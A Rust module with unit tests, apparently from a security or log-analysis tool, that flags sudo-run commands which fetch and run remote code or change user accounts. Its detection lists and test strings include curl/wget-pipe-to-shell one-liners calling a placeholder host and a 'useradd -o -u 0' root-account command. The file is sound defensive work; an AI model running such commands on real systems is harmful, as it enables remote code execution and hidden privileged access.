//! What a command that sudo ran says by its own words.

use super::wording::{holds, until};

/// Programs that bring files over the net.
const FETCHERS: &[&[u8]] = &[b"curl", b"wget", b"fetch", b"aria2c", b"lwp-download"];

/// Programs that run what they are given.
const SHELLS: &[&[u8]] = &[
    b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python", b"python2", b"python3", b"perl", b"ruby", b"php",
    b"node",
];

/// Programs that only begin another.
const BEGINNERS: &[&[u8]] = &[b"sudo", b"env", b"nohup", b"exec", b"setsid", b"time", b"(", b"{"];

/// Folders where programs lie that were just brought.
const BROUGHT: &[&[u8]] = &[b"./", b"/tmp/", b"/var/tmp/", b"/dev/shm/"];

/// Programs that make or change accounts and groups.
const ACCOUNT_TOOLS: &[&[u8]] = &[
    b"useradd",
    b"adduser",
    b"usermod",
    b"userdel",
    b"deluser",
    b"passwd",
    b"chpasswd",
    b"gpasswd",
    b"groupadd",
    b"addgroup",
    b"groupmod",
    b"newusers",
];

/// Whether a command fetches a program over the net and runs it: `curl … | bash`, `sh -c "wget … -O /tmp/x; sh /tmp/x"`.
pub fn fetches_and_runs(command: &[u8]) -> bool {
    if [&b"$(curl "[..], b"$(wget ", b"`curl ", b"`wget ", b"<(curl ", b"<(wget "]
        .iter()
        .any(|mark| holds(command, mark))
    {
        return true;
    }
    let mut has_fetched = false;
    for step in command.split(|byte| b"|;&\n".contains(byte)) {
        let words = || step.split(|byte| b" \t\"'".contains(byte)).filter(|word| !word.is_empty());
        let Some(program) = words().find(|word| !BEGINNERS.contains(&name(word)) && !word.contains(&b'=')) else {
            continue;
        };
        if has_fetched && (SHELLS.contains(&name(program)) || BROUGHT.iter().any(|folder| program.starts_with(folder)))
        {
            return true;
        }
        // `sh -c "curl …"` fetches, too.
        let mut after_shell = words().skip_while(|word| *word != b"-c").skip(1);
        let is_shell = SHELLS.contains(&name(program));
        let begun = if is_shell { after_shell.next().unwrap_or(program) } else { program };
        has_fetched |= FETCHERS.contains(&name(begun));
    }
    false
}

/// Whether a command makes or changes the account or the group of this name.
pub fn changes_account(command: &[u8], account: &[u8]) -> bool {
    let mut words = command.split(|byte| b" \t\"'=:,;|".contains(byte));
    let is_tool = command.split(|byte| b" ;|&\"'".contains(byte)).any(|word| ACCOUNT_TOOLS.contains(&name(word)));
    is_tool && !account.is_empty() && words.any(|word| word == account)
}

/// A program's name without its folder.
fn name(program: &[u8]) -> &[u8] {
    let start = memchr::memrchr(b'/', program).map_or(0, |at| at + 1);
    until(&program[start..], b' ')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ok_what_is_fetched_and_run() {
        for (command, is) in [
            ("/usr/bin/bash -c curl -s http://192.0.2.9/x.sh | bash", true),
            ("/bin/sh -c 'wget -qO- http://192.0.2.9/x | sh'", true),
            ("/usr/bin/sh -c \"curl -fsSL https://get.example.com | sudo bash\"", true),
            ("/bin/bash -c bash <(curl -s http://192.0.2.9/x)", true),
            ("/bin/sh -c wget http://192.0.2.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", true),
            ("/bin/sh -c curl http://192.0.2.9/x | env A=1 python3 -", true),
            ("/usr/bin/curl -fsSL https://example.com/key -o /etc/apt/keyrings/a.gpg", false),
            ("/usr/bin/wget https://example.com/a.tar.gz", false),
            ("/bin/sh -c curl http://127.0.0.1/health | grep ok", false),
            ("/usr/bin/apt install curl && /bin/bash", false),
            ("/bin/bash", false),
            ("/bin/cat curl | sh.txt", false),
            ("", false),
        ] {
            assert_eq!(fetches_and_runs(command.as_bytes()), is, "{command}");
        }
    }

    #[test]
    fn ok_whose_account_a_command_changes() {
        for (command, account, is) in [
            ("/usr/sbin/useradd -o -u 0 eve", "eve", true),
            ("/usr/sbin/usermod -aG sudo eve", "eve", true),
            ("/bin/sh -c echo eve:x | chpasswd", "eve", true),
            ("/usr/sbin/useradd evelyn", "eve", false),
            ("/bin/cat /home/eve", "eve", false),
            ("/usr/sbin/useradd eve", "", false),
        ] {
            assert_eq!(changes_account(command.as_bytes(), account.as_bytes()), is, "{command}");
        }
    }
}
